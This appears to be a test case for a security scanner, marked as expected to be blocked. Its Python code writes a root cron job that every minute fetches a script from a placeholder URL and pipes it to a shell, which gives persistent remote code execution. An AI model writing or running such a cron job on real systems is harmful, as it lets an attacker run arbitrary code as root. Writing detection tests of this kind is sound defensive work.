# expect: block SG807@2
with open("/etc/cron.d/update", "w") as f:
    f.write("* * * * * root curl https://example.com/x | sh\n")
